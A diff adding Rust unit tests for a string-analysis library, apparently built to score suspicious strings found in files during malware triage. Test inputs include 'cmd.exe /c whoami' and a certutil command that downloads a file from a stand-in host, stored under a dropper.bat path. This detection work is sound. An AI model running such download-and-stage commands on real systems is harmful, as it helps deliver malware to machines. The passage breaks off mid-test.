@@ -1,6 +1,9 @@
 //! Unit tests for individual components in threatflux-string-analysis
 
-use threatflux_string_analysis::{StringContext, StringFilter, StringTracker};
+use threatflux_string_analysis::{
+    AnalysisConfig, FilterExpr, SearchOptions, StringAnalysisError, StringContext, StringFilter,
+    StringTracker,
+};
 
 #[test]
 fn test_string_context_variants() {
@@ -553,3 +556,1251 @@ fn test_entropy_calculation_consistency() {
         }
     }
 }
+
+#[test]
+fn test_with_entry_and_for_each_entry() {
+    let tracker = StringTracker::new();
+
+    for i in 0..3 {
+        tracker
+            .track_string(
+                "borrowed_entry",
+                &format!("/test/borrow_{}", i),
+                "borrow_hash",
+                "borrow_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+    tracker
+        .track_string(
+            "other_entry",
+            "/test/borrow_0",
+            "borrow_hash",
+            "borrow_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    // Read a single field without cloning the entry
+    let total = tracker.with_entry("borrowed_entry", |e| e.map(|e| e.total_occurrences));
+    let details = tracker.get_string_details("borrowed_entry").unwrap();
+    assert_eq!(total, Some(3));
+    assert_eq!(total, Some(details.total_occurrences));
+
+    // Missing strings are reported as None
+    assert!(tracker.with_entry("missing_entry", |e| e.is_none()));
+
+    // Iterate over all entries
+    let mut seen = Vec::new();
+    tracker.for_each_entry(|e| seen.push((e.value.clone(), e.total_occurrences)));
+    seen.sort();
+    assert_eq!(
+        seen,
+        vec![
+            ("borrowed_entry".to_string(), 3),
+            ("other_entry".to_string(), 1)
+        ]
+    );
+}
+
+#[test]
+fn test_suspicion_score_and_filtering() {
+    let tracker = StringTracker::new();
+
+    // ip_address pattern (severity 4), credential keyword (severity 8), nothing
+    for value in ["10.0.0.1", "password", "hello"] {
+        tracker
+            .track_string(
+                value,
+                "/test/score",
+                "score_hash",
+                "score_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let ip = tracker.get_string_details("10.0.0.1").unwrap();
+    let credential = tracker.get_string_details("password").unwrap();
+    let benign = tracker.get_string_details("hello").unwrap();
+    assert_eq!(ip.suspicion_score, 4);
+    assert_eq!(credential.suspicion_score, 8);
+    assert_eq!(benign.suspicion_score, 0);
+
+    let high_filter = StringFilter {
+        min_suspicion_score: Some(5),
+        ..Default::default()
+    };
+    let high_stats = tracker.get_statistics(Some(&high_filter));
+    assert_eq!(high_stats.total_unique_strings, 1);
+    assert_eq!(high_stats.suspicious_strings, vec!["password".to_string()]);
+
+    let low_filter = StringFilter {
+        max_suspicion_score: Some(4),
+        ..Default::default()
+    };
+    let low_stats = tracker.get_statistics(Some(&low_filter));
+    assert_eq!(low_stats.total_unique_strings, 2);
+
+    let band_filter = StringFilter {
+        min_suspicion_score: Some(1),
+        max_suspicion_score: Some(4),
+        ..Default::default()
+    };
+    let band_stats = tracker.get_statistics(Some(&band_filter));
+    assert_eq!(band_stats.total_unique_strings, 1);
+    assert_eq!(band_stats.most_common[0].0, "10.0.0.1");
+}
+
+#[test]
+fn test_tracker_from_config() {
+    let config = AnalysisConfig {
+        min_suspicious_entropy: 1.0,
+        max_occurrences_per_string: 2,
+        enable_time_analysis: false,
+        custom_metadata_fields: Vec::new(),
+    };
+    let tracker = StringTracker::from_config(config);
+
+    for i in 0..5 {
+        tracker
+            .track_string(
+                "configured_string",
+                &format!("/test/config_{}", i),
+                "config_hash",
+                "config_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(2));
+    }
+
+    let details = tracker.get_string_details("configured_string").unwrap();
+    // Occurrence cap comes from the config
+    assert_eq!(details.total_occurrences, 5);
+    assert_eq!(details.occurrences.len(), 2);
+    // Low entropy threshold flags ordinary text
+    assert!(details.is_suspicious);
+    // Time analysis disabled keeps last_seen at the first sighting
+    assert_eq!(details.first_seen, details.last_seen);
+
+    // Defaults match StringTracker::new()
+    let default_tracker = StringTracker::from_config(AnalysisConfig::default());
+    for _ in 0..3 {
+        default_tracker
+            .track_string(
+                "configured_string",
+                "/test/config",
+                "config_hash",
+                "config_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+    let details = default_tracker
+        .get_string_details("configured_string")
+        .unwrap();
+    assert_eq!(details.occurrences.len(), 3);
+    assert!(!details.is_suspicious);
+}
+
+#[test]
+fn test_track_strings_from_results_with_custom_context() {
+    let tracker = StringTracker::new();
+    let strings = vec![
+        "https://example.com/path".to_string(),
+        "C:\\Windows\\System32\\cmd.exe".to_string(),
+        "plain text".to_string(),
+    ];
+
+    tracker
+        .track_strings_from_results_with(
+            &strings,
+            "/test/custom_context",
+            "custom_hash",
+            "custom_tool",
+            |_, _| StringContext::Metadata {
+                field: "forced".to_string(),
+            },
+        )
+        .unwrap();
+
+    for string in &strings {
+        let details = tracker.get_string_details(string).unwrap();
+        assert_eq!(details.occurrences.len(), 1);
+        match &details.occurrences[0].context {
+            StringContext::Metadata { field } => assert_eq!(field, "forced"),
+            other => panic!("unexpected context {:?} for {}", other, string),
+        }
+        assert!(details.categories.contains("metadata"));
+    }
+
+    // The closure sees the categorizer's categories
+    tracker
+        .track_strings_from_results_with(
+            &["https://example.com/other".to_string()],
+            "/test/custom_context",
+            "custom_hash",
+            "custom_tool",
+            |_, categories| StringContext::Other {
+                category: categories
+                    .iter()
+                    .map(|c| c.name.clone())
+                    .collect::<Vec<_>>()
+                    .join(","),
+            },
+        )
+        .unwrap();
+    let details = tracker
+        .get_string_details("https://example.com/other")
+        .unwrap();
+    match &details.occurrences[0].context {
+        StringContext::Other { category } => assert!(category.contains("url")),
+        other => panic!("unexpected context {:?}", other),
+    }
+}
+
+#[test]
+fn test_multibyte_string_lengths() {
+    let tracker = StringTracker::new();
+    let cyrillic = "привет"; // 6 chars, 12 bytes
+    let cjk = "你好世界你好世界你好世界"; // 12 chars, 36 bytes
+
+    for value in [cyrillic, cjk] {
+        tracker
+            .track_string(
+                value,
+                "/test/unicode",
+                "unicode_hash",
+                "unicode_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let details = tracker.get_string_details(cyrillic).unwrap();
+    assert_eq!(details.char_len(), 6);
+    assert_eq!(details.byte_len(), 12);
+
+    // Buckets count characters, not bytes
+    let stats = tracker.get_statistics(None);
+    assert_eq!(stats.length_distribution.get("0-10"), Some(&1));
+    assert_eq!(stats.length_distribution.get("11-20"), Some(&1));
+    assert_eq!(stats.length_distribution.get("21-50"), None);
+
+    let short_filter = StringFilter {
+        max_length: Some(6),
+        ..Default::default()
+    };
+    let short_stats = tracker.get_statistics(Some(&short_filter));
+    assert_eq!(short_stats.total_unique_strings, 1);
+    assert_eq!(short_stats.most_common[0].0, cyrillic);
+
+    let long_filter = StringFilter {
+        min_length: Some(7),
+        max_length: Some(12),
+        ..Default::default()
+    };
+    let long_stats = tracker.get_statistics(Some(&long_filter));
+    assert_eq!(long_stats.total_unique_strings, 1);
+    assert_eq!(long_stats.most_common[0].0, cjk);
+}
+
+#[test]
+fn test_track_string_at_fixed_timestamps() {
+    use chrono::{TimeZone, Utc};
+
+    let tracker = StringTracker::new();
+    let t0 = Utc.with_ymd_and_hms(2024, 1, 1, 12, 0, 0).unwrap();
+    let t1 = Utc.with_ymd_and_hms(2024, 1, 1, 12, 5, 0).unwrap();
+    let t2 = Utc.with_ymd_and_hms(2024, 1, 2, 8, 30, 0).unwrap();
+
+    for (i, ts) in [t0, t1, t2].into_iter().enumerate() {
+        tracker
+            .track_string_at(
+                "clocked_string",
+                &format!("/test/clock_{}", i),
+                "clock_hash",
+                "clock_tool",
+                StringContext::FileString { offset: None },
+                ts,
+            )
+            .unwrap();
+
+        let details = tracker.get_string_details("clocked_string").unwrap();
+        assert_eq!(details.first_seen, t0);
+        assert_eq!(details.last_seen, ts);
+        assert_eq!(details.occurrences[i].timestamp, ts);
+    }
+
+    let details = tracker.get_string_details("clocked_string").unwrap();
+    assert_eq!(details.first_seen, details.occurrences[0].timestamp);
+
+    // track_string uses a single timestamp for the entry and its occurrence
+    tracker
+        .track_string(
+            "live_string",
+            "/test/clock",
+            "clock_hash",
+            "clock_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+    let live = tracker.get_string_details("live_string").unwrap();
+    assert_eq!(live.first_seen, live.occurrences[0].timestamp);
+    assert_eq!(live.last_seen, live.occurrences[0].timestamp);
+}
+
+#[test]
+fn test_deduplicate_occurrences() {
+    let track_twice = |tracker: &StringTracker| {
+        for _ in 0..2 {
+            tracker
+                .track_string(
+                    "rescanned_string",
+                    "/test/rescan",
+                    "rescan_hash",
+                    "rescan_tool",
+                    StringContext::FileString { offset: Some(42) },
+                )
+                .unwrap();
+        }
+        tracker.get_string_details("rescanned_string").unwrap()
+    };
+
+    let dedup = StringTracker::new().with_deduplicate_occurrences(true);
+    let details = track_twice(&dedup);
+    assert_eq!(details.total_occurrences, 1);
+    assert_eq!(details.occurrences.len(), 1);
+    assert!(details.last_seen >= details.occurrences[0].timestamp);
+
+    // A different offset is a distinct occurrence
+    dedup
+        .track_string(
+            "rescanned_string",
+            "/test/rescan",
+            "rescan_hash",
+            "rescan_tool",
+            StringContext::FileString { offset: Some(43) },
+        )
+        .unwrap();
+    assert_eq!(
+        dedup
+            .get_string_details("rescanned_string")
+            .unwrap()
+            .total_occurrences,
+        2
+    );
+
+    let plain = StringTracker::new().with_deduplicate_occurrences(false);
+    let details = track_twice(&plain);
+    assert_eq!(details.total_occurrences, 2);
+    assert_eq!(details.occurrences.len(), 2);
+}
+
+#[test]
+fn test_get_strings_by_category() {
+    let tracker = StringTracker::new();
+    let urls = [
+        ("https://one.example.com", 1),
+        ("https://two.example.com", 3),
+        ("https://three.example.com", 2),
+    ];
+    for (url, count) in urls {
+        for _ in 0..count {
+            tracker
+                .track_string(
+                    url,
+                    "/test/category",
+                    "category_hash",
+                    "category_tool",
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+    }
+    tracker
+        .track_string(
+            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Test",
+            "/test/category",
+            "category_hash",
+            "category_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    let all_urls = tracker.get_strings_by_category("url", 10);
+    let values: Vec<_> = all_urls.iter().map(|e| e.value.as_str()).collect();
+    assert_eq!(
+        values,
+        vec![
+            "https://two.example.com",
+            "https://three.example.com",
+            "https://one.example.com"
+        ]
+    );
+
+    let limited = tracker.get_strings_by_category("url", 2);
+    assert_eq!(limited.len(), 2);
+    assert_eq!(limited[0].total_occurrences, 3);
+
+    let registry = tracker.get_strings_by_category("registry", 10);
+    assert_eq!(registry.len(), 1);
+
+    assert!(tracker.get_strings_by_category("email", 10).is_empty());
+    assert!(tracker.get_strings_by_category("url", 0).is_empty());
+}
+
+#[test]
+fn test_top_suspicious_ranking() {
+    let tracker = StringTracker::new();
+    let strings = [
+        ("10.0.0.1", 1),    // ip_address, severity 4
+        ("password", 1),    // credential_keyword, severity 8
+        ("rootkit", 1),     // malware_keyword, severity 9
+        ("192.168.0.1", 3), // same score as 10.0.0.1 but more frequent
+        ("plain words", 5), // not suspicious
+    ];
+    for (value, count) in strings {
+        for _ in 0..count {
+            tracker
+                .track_string(
+                    value,
+                    "/test/top",
+                    "top_hash",
+                    "top_tool",
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+    }
+
+    let top = tracker.top_suspicious(10);
+    assert_eq!(
+        top,
+        vec![
+            ("rootkit".to_string(), 9),
+            ("password".to_string(), 8),
+            ("192.168.0.1".to_string(), 4),
+            ("10.0.0.1".to_string(), 4),
+        ]
+    );
+
+    let limited = tracker.top_suspicious(2);
+    assert_eq!(limited.len(), 2);
+    assert_eq!(limited[0].0, "rootkit");
+}
+
+#[test]
+fn test_analyze_batch_does_not_track() {
+    let tracker = StringTracker::new();
+    let candidates = vec![
+        "cmd.exe /c whoami".to_string(),
+        "https://example.com".to_string(),
+        "plain text".to_string(),
+    ];
+
+    let results = tracker.analyze_batch(&candidates);
+    assert_eq!(results.len(), 3);
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 0);
+
+    // Tracking the same strings stores the same analysis
+    for (candidate, result) in candidates.iter().zip(&results) {
+        tracker
+            .track_string(
+                candidate,
+                "/test/batch",
+                "batch_hash",
+                "batch_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+        let entry = tracker.get_string_details(candidate).unwrap();
+
+        assert_eq!(result.value, entry.value);
+        assert_eq!(result.entropy, entry.entropy);
+        assert_eq!(result.byte_entropy, entry.byte_entropy);
+        assert_eq!(result.is_suspicious, entry.is_suspicious);
+        assert_eq!(result.suspicion_score, entry.suspicion_score);
+        assert!(result.categories.is_subset(&entry.categories));
+        assert!(entry.categories.contains("file_string"));
+    }
+
+    assert!(results[0].is_suspicious);
+    assert!(!results[0].suspicious_indicators.is_empty());
+    assert!(results[1].categories.contains("url"));
+    assert!(!results[2].is_suspicious);
+}
+
+#[test]
+fn test_fuzzy_search_ranking() {
+    let tracker = StringTracker::new();
+
+    // The longer string is seen far more often, but the exact match must still win
+    for _ in 0..20 {
+        tracker
+            .track_string(
+                "beacon.example.net/updates",
+                "/test/fuzzy",
+                "fuzzy_hash",
+                "fuzzy_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+    for value in ["beacon.example.net", "unrelated"] {
+        tracker
+            .track_string(
+                value,
+                "/test/fuzzy",
+                "fuzzy_hash",
+                "fuzzy_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let options = SearchOptions::default();
+    let results = tracker.search_strings_fuzzy("beacon.example.net", 10, &options);
+    assert_eq!(results.len(), 2);
+    assert_eq!(results[0].0.value, "beacon.example.net");
+    assert_eq!(results[1].0.value, "beacon.example.net/updates");
+    assert!(results[0].1 > results[1].1);
+
+    // A one-character typo still finds the intended string
+    let results = tracker.search_strings_fuzzy("becon.example.net", 10, &options);
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].0.value, "beacon.example.net");
+
+    // Fuzzy matching can be disabled
+    let strict = SearchOptions {
+        max_edit_distance: 0,
+        ..Default::default()
+    };
+    assert!(tracker
+        .search_strings_fuzzy("becon.example.net", 10, &strict)
+        .is_empty());
+    assert!(tracker.search_strings_fuzzy("", 10, &options).is_empty());
+}
+
+#[test]
+fn test_on_new_suspicious_callback() {
+    use std::sync::{Arc, Mutex};
+
+    let tracker = StringTracker::new();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+
+    let seen_clone = Arc::clone(&seen);
+    let inner = tracker.clone();
+    tracker.on_new_suspicious(move |entry| {
+        // The entries lock is released, so the tracker can be queried from the callback
+        assert!(inner.get_string_details(&entry.value).is_some());
+        seen_clone.lock().unwrap().push(entry.value.clone());
+    });
+
+    for _ in 0..3 {
+        for value in ["cmd.exe /c whoami", "hello world"] {
+            tracker
+                .track_string(
+                    value,
+                    "/test/callback",
+                    "callback_hash",
+                    "callback_tool",
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+    }
+
+    assert_eq!(*seen.lock().unwrap(), vec!["cmd.exe /c whoami".to_string()]);
+}
+
+#[test]
+fn test_seen_timestamps_bound_occurrences() {
+    use chrono::{TimeZone, Utc};
+
+    let assert_invariant = |tracker: &StringTracker, value: &str| {
+        let details = tracker.get_string_details(value).unwrap();
+        for occurrence in &details.occurrences {
+            assert!(details.first_seen <= occurrence.timestamp);
+            assert!(occurrence.timestamp <= details.last_seen);
+        }
+    };
+
+    let tracker = StringTracker::new();
+    for _ in 0..50 {
+        tracker
+            .track_string(
+                "rapid_string",
+                "/test/rapid",
+                "rapid_hash",
+                "rapid_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+    assert_invariant(&tracker, "rapid_string");
+
+    // Out-of-order timestamps widen the range instead of overwriting it
+    let early = Utc.with_ymd_and_hms(2024, 1, 1, 0, 0, 0).unwrap();
+    let middle = Utc.with_ymd_and_hms(2024, 6, 1, 0, 0, 0).unwrap();
+    let late = Utc.with_ymd_and_hms(2024, 12, 1, 0, 0, 0).unwrap();
+    for ts in [middle, late, early] {
+        tracker
+            .track_string_at(
+                "backfilled_string",
+                "/test/backfill",
+                "backfill_hash",
+                "backfill_tool",
+                StringContext::FileString { offset: None },
+                ts,
+            )
+            .unwrap();
+    }
+    assert_invariant(&tracker, "backfilled_string");
+
+    let details = tracker.get_string_details("backfilled_string").unwrap();
+    assert_eq!(details.first_seen, early);
+    assert_eq!(details.last_seen, late);
+}
+
+#[test]
+fn test_printable_ratio_and_filter() {
+    let tracker = StringTracker::new();
+
+    let clean = "plain readable text\twith tabs";
+    let binary = "\x00\x01\x02\x03\u{fffd}\u{fffd}";
+    let mixed = "MZ\x00\x03";
+    for value in [clean, binary, mixed] {
+        tracker
+            .track_string(
+                value,
+                "/test/printable",
+                "printable_hash",
+                "printable_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let ratio = |value: &str| tracker.get_string_details(value).unwrap().printable_ratio;
+    assert_eq!(ratio(clean), 1.0);
+    assert_eq!(ratio(binary), 0.0);
+    assert!((ratio(mixed) - 0.5).abs() < 1e-9);
+
+    // Filter out binary garbage
+    let text_only = tracker.get_statistics(Some(&StringFilter {
+        min_printable_ratio: Some(0.9),
+        ..Default::default()
+    }));
+    assert_eq!(text_only.total_unique_strings, 1);
+    assert_eq!(text_only.most_common[0].0, clean);
+
+    // Or isolate it
+    let binary_only = tracker.get_statistics(Some(&StringFilter {
+        max_printable_ratio: Some(0.5),
+        ..Default::default()
+    }));
+    assert_eq!(binary_only.total_unique_strings, 2);
+}
+
+#[test]
+fn test_unique_tools_survive_occurrence_cap() {
+    let tracker = StringTracker::new().with_max_occurrences(3);
+
+    let track = |tool: &str, count: usize| {
+        for i in 0..count {
+            tracker
+                .track_string(
+                    "multi_tool_string",
+                    &format!("/test/tools_{}", i),
+                    "tools_hash",
+                    tool,
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+    };
+    track("first_tool", 1);
+    track("second_tool", 10);
+
+    let details = tracker.get_string_details("multi_tool_string").unwrap();
+    assert_eq!(details.occurrences.len(), 3);
+    assert!(details
+        .occurrences
+        .iter()
+        .all(|o| o.tool_name == "second_tool"));
+    assert_eq!(details.unique_tools.len(), 2);
+    assert!(details.unique_tools.contains("first_tool"));
+    assert!(details.unique_tools.contains("second_tool"));
+
+    let by_tool = |tool: &str| {
+        tracker
+            .get_statistics(Some(&StringFilter {
+                tools: Some(vec![tool.to_string()]),
+                ..Default::default()
+            }))
+            .total_unique_strings
+    };
+    assert_eq!(by_tool("first_tool"), 1);
+    assert_eq!(by_tool("other_tool"), 0);
+}
+
+#[test]
+fn test_max_occurrences_getter_and_truncation() {
+    assert_eq!(
+        StringTracker::new().max_occurrences_per_string(),
+        AnalysisConfig::default().max_occurrences_per_string
+    );
+    let config = AnalysisConfig {
+        max_occurrences_per_string: 7,
+        ..Default::default()
+    };
+    assert_eq!(
+        StringTracker::from_config(config).max_occurrences_per_string(),
+        7
+    );
+
+    let tracker = StringTracker::new().with_max_occurrences(10);
+    assert_eq!(tracker.max_occurrences_per_string(), 10);
+
+    let track = |tracker: &StringTracker, count: usize| {
+        for i in 0..count {
+            tracker
+                .track_string(
+                    "capped_string",
+                    &format!("/test/cap_{}", i),
+                    "cap_hash",
+                    "cap_tool",
+                    StringContext::FileString { offset: Some(i) },
+                )
+                .unwrap();
+        }
+    };
+    track(&tracker, 8);
+    assert_eq!(
+        tracker
+            .get_string_details("capped_string")
+            .unwrap()
+            .occurrences
+            .len(),
+        8
+    );
+
+    // Lowering the cap truncates existing buffers, keeping the newest occurrences
+    let tracker = tracker.with_max_occurrences(3);
+    assert_eq!(tracker.max_occurrences_per_string(), 3);
+    let details = tracker.get_string_details("capped_string").unwrap();
+    let offsets: Vec<_> = details
+        .occurrences
+        .iter()
+        .map(|o| match o.context {
+            StringContext::FileString { offset } => offset.unwrap(),
+            _ => unreachable!(),
+        })
+        .collect();
+    assert_eq!(offsets, vec![5, 6, 7]);
+    assert_eq!(details.total_occurrences, 8);
+
+    // Further tracking stays within the cap while the total keeps counting
+    track(&tracker, 4);
+    let details = tracker.get_string_details("capped_string").unwrap();
+    assert_eq!(details.occurrences.len(), 3);
+    assert_eq!(details.total_occurrences, 12);
+}
+
+#[test]
+fn test_occurrences_sorted_chronologically() {
+    use chrono::{TimeZone, Utc};
+
+    let tracker = StringTracker::new();
+    let hours = [5, 1, 3, 2, 4];
+    for hour in hours {
+        tracker
+            .track_string_at(
+                "unordered_string",
+                &format!("/test/order_{}", hour),
+                "order_hash",
+                "order_tool",
+                StringContext::FileString { offset: None },
+                Utc.with_ymd_and_hms(2024, 3, 1, hour, 0, 0).unwrap(),
+            )
+            .unwrap();
+    }
+
+    let details = tracker.get_string_details("unordered_string").unwrap();
+    let stored: Vec<_> = details
+        .occurrences
+        .iter()
+        .map(|o| o.file_path.as_str())
+        .collect();
+    let sorted: Vec<_> = details
+        .occurrences_sorted()
+        .iter()
+        .map(|o| o.file_path.as_str())
+        .collect();
+
+    // The stored vector keeps insertion order
+    assert_eq!(
+        stored,
+        vec![
+            "/test/order_5",
+            "/test/order_1",
+            "/test/order_3",
+            "/test/order_2",
+            "/test/order_4"
+        ]
+    );
+    assert_eq!(
+        sorted,
+        vec![
+            "/test/order_1",
+            "/test/order_2",
+            "/test/order_3",
+            "/test/order_4",
+            "/test/order_5"
+        ]
+    );
+}
+
+#[test]
+fn test_ignore_list_and_patterns() {
+    use std::collections::HashSet;
+    use std::sync::{Arc, Mutex};
+
+    let tracker = StringTracker::new()
+        .with_ignore_list(HashSet::from([
+            "kernel32.dll".to_string(),
+            "cmd.exe".to_string(),
+        ]))
+        .with_ignore_patterns(vec![regex::Regex::new(r"^GCC: \(").unwrap()]);
+
+    let notified = Arc::new(Mutex::new(Vec::new()));
+    let sink = Arc::clone(&notified);
+    tracker.on_new_suspicious(move |entry| {
+        sink.lock().unwrap().push(entry.value.clone());
+    });
+
+    for value in [
+        "kernel32.dll",
+        "cmd.exe",
+        "GCC: (GNU) 12.2.0",
+        "GCC: (Ubuntu 11.4.0) 11.4.0",
+        "kernel32.dll.bak",
+        "custom_payload_marker",
+    ] {
+        tracker
+            .track_string(
+                value,
+                "/test/ignore",
+                "ignore_hash",
+                "ignore_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+    tracker
+        .track_strings_from_results(
+            &["cmd.exe".to_string(), "another_marker".to_string()],
+            "/test/ignore",
+            "ignore_hash",
+            "ignore_tool",
+        )
+        .unwrap();
+
+    let stats = tracker.get_statistics(None);
+    let mut tracked: Vec<_> = stats.most_common.into_iter().map(|(v, _)| v).collect();
+    tracked.sort();
+    assert_eq!(
+        tracked,
+        vec![
+            "another_marker",
+            "custom_payload_marker",
+            "kernel32.dll.bak"
+        ]
+    );
+    assert!(tracker.get_string_details("cmd.exe").is_none());
+
+    // The suspicious "cmd.exe" was skipped before analysis
+    assert!(!notified.lock().unwrap().contains(&"cmd.exe".to_string()));
+}
+
+#[test]
+fn test_max_entries_evicts_least_recently_seen() {
+    use chrono::{Duration, TimeZone, Utc};
+
+    let tracker = StringTracker::new().with_max_entries(5);
+    let base = Utc.with_ymd_and_hms(2024, 9, 1, 0, 0, 0).unwrap();
+    let track = |value: &str, minute: i64| {
+        tracker
+            .track_string_at(
+                value,
+                "/test/lru",
+                "lru_hash",
+                "lru_tool",
+                StringContext::FileString { offset: None },
+                base + Duration::minutes(minute),
+            )
+            .unwrap();
+    };
+
+    for i in 0..20 {
+        track(&format!("lru_value_{:02}", i), i);
+        // Keep the first string fresh so it is never the least recently seen
+        track("lru_value_00", i);
+        assert!(tracker.get_statistics(None).total_unique_strings <= 5);
+    }
+
+    let stats = tracker.get_statistics(None);
+    assert_eq!(stats.total_unique_strings, 5);
+    assert_eq!(tracker.evicted_count(), 15);
+
+    let mut survivors: Vec<_> = stats.most_common.into_iter().map(|(v, _)| v).collect();
+    survivors.sort();
+    assert_eq!(
+        survivors,
+        vec![
+            "lru_value_00",
+            "lru_value_16",
+            "lru_value_17",
+            "lru_value_18",
+            "lru_value_19"
+        ]
+    );
+    assert_eq!(
+        tracker
+            .get_string_details("lru_value_00")
+            .unwrap()
+            .total_occurrences,
+        21
+    );
+
+    // Sightings of tracked strings never evict anything
+    track("lru_value_19", 30);
+    assert_eq!(tracker.evicted_count(), 15);
+}
+
+#[test]
+fn test_track_string_with_extraction() {
+    let tracker = StringTracker::new();
+    let command_line = "certutil -urlcache -f http://stage.example.org/update.bin 203.0.113.5";
+
+    tracker
+        .track_string_with_extraction(
+            command_line,
+            "/test/dropper.bat",
+            "dropper_hash",
+            "extract_tool",
+            StringContext::Command {
+                command_type: "batch".to_string(),
+            },
+        )
+        .unwrap();
+
+    let stats = tracker.get_statistics(None);
+    assert_eq!(stats.total_unique_strings, 3);
+
+    let url = tracker
+        .get_string_details("http://stage.example.org/update.bin")
+        .unwrap();
+    let ip = tracker.get_string_details("203.0.113.5").unwrap();
+    let parent = tracker.get_string_details(command_line).unwrap();
+
+    let links: Vec<&String> = url
+        .categories
+        .iter()
+        .filter(|c| c.starts_with("extracted_from:"))
+        .collect();
+    assert_eq!(links.len(), 1);
+    assert!(ip.categories.contains(links[0]));
+    assert!(!parent
+        .categories
+        .iter()
+        .any(|c| c.starts_with("extracted_from:")));
+
+    assert!(url.categories.contains("url"));
+    assert_eq!(
+        url.occurrences[0].context,
+        StringContext::Url {
+            protocol: Some("http".to_string())
+        }
+    );
+    assert!(ip.categories.contains("ip_address"));
+}
+
+#[test]
+fn test_filter_expr_combinators() {
+    let tracker = StringTracker::new();
+    for value in [
+        "cmd.exe /c whoami",
+        "Zx9Qv3Lm8Kp2Wr7Tn5Yb",
+        "hello_world_plain",
+    ] {
+        tracker
+            .track_string(
+                value,
+                "/test/expr",
+                "expr_hash",
+                "expr_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let selected = |expr: &FilterExpr| {
+        let stats = tracker.get_statistics_expr(expr).unwrap();
+        let mut values: Vec<_> = stats.most_common.into_iter().map(|(v, _)| v).collect();
+        values.sort();
+        values
+    };
+
+    let suspicious_or_high_entropy = FilterExpr::Or(vec![
+        FilterExpr::Leaf(StringFilter {
+            suspicious_only: Some(true),
+            ..Default::default()
+        }),
+        FilterExpr::Leaf(StringFilter {
+            min_entropy: Some(4.0),
+            ..Default::default()
+        }),
+    ]);
+    assert_eq!(
+        selected(&suspicious_or_high_entropy),
+        vec!["Zx9Qv3Lm8Kp2Wr7Tn5Yb", "cmd.exe /c whoami"]
+    );
+
+    let not_command = FilterExpr::Not(Box::new(FilterExpr::Leaf(StringFilter {
+        categories: Some(vec!["command".to_string()]),
+        ..Default::default()
+    })));
+    assert_eq!(
+        selected(&not_command),
+        vec!["Zx9Qv3Lm8Kp2Wr7Tn5Yb", "hello_world_plain"]
+    );
+
+    // A leaf behaves exactly like the flat filter
+    let flat = StringFilter {
+        suspicious_only: Some(true),
+        ..Default::default()
+    };
+    assert_eq!(
+        tracker
+            .get_statistics_expr(&FilterExpr::from(flat.clone()))
+            .unwrap()
+            .suspicious_strings,
+        tracker.get_statistics(Some(&flat)).suspicious_strings
+    );
+
+    assert_eq!(selected(&FilterExpr::And(Vec::new())).len(), 3);
+    assert!(selected(&FilterExpr::Or(Vec::new())).is_empty());
+
+    let invalid = FilterExpr::Not(Box::new(FilterExpr::Leaf(StringFilter {
+        regex_pattern: Some("(".to_string()),
+        ..Default::default()
+    })));
+    assert!(invalid.validate().is_err());
+    assert!(matches!(
+        tracker.get_statistics_expr(&invalid),
+        Err(StringAnalysisError::InvalidRegex { .. })
+    ));
+}
+
+#[test]
+fn test_key_normalizer_merges_variants() {
+    let track_variants = |tracker: &StringTracker| {
+        for value in ["Foo ", "foo"] {
+            tracker
+                .track_string(
+                    value,
+                    "/test/normalize",
+                    "normalize_hash",
+                    "normalize_tool",
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+    };
+
+    let normalized = StringTracker::new().with_key_normalizer(|s| s.trim().to_lowercase());
+    track_variants(&normalized);
+    assert_eq!(normalized.get_statistics(None).total_unique_strings, 1);
+
+    let entry = normalized.get_string_details("foo").unwrap();
+    assert_eq!(entry.value, "Foo ");
+    assert_eq!(entry.total_occurrences, 2);
+    assert_eq!(
+        normalized
+            .get_string_details(" FOO")
+            .unwrap()
+            .total_occurrences,
+        2
+    );
+
+    let plain = StringTracker::new();
+    track_variants(&plain);
+    assert_eq!(plain.get_statistics(None).total_unique_strings, 2);
+    assert_eq!(
+        plain.get_string_details("Foo ").unwrap().total_occurrences,
+        1
+    );
+    assert_eq!(
+        plain.get_string_details("foo").unwrap().total_occurrences,
+        1
+    );
+}
+
+#[test]
+fn test_max_entries_eviction_scales() {
+    use std::time::{Duration, Instant};
+    use threatflux_string_analysis::{DefaultCategorizer, DefaultStringAnalyzer};
+
+    // Pattern-free components keep per-string analysis cheap, so eviction dominates
+    let track_all = |tracker: StringTracker| {
+        let start = Instant::now();
+        for i in 0..30_000 {
+            tracker
+                .track_string(
+                    &format!("scale_value_{}", i),
+                    "/test/scale",
+                    "scale_hash",
+                    "scale_tool",
+                    StringContext::FileString { offset: None },
+                )
+                .unwrap();
+        }
+        (start.elapsed(), tracker)
+    };
+    let components = || {
+        StringTracker::with_components(
+            Box::new(DefaultStringAnalyzer::new()),
+            Box::new(DefaultCategorizer::empty()),
+        )
+    };
+
+    let (uncapped, _) = track_all(components());
+    let (capped, tracker) = track_all(components().with_max_entries(15_000));
+
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 15_000);
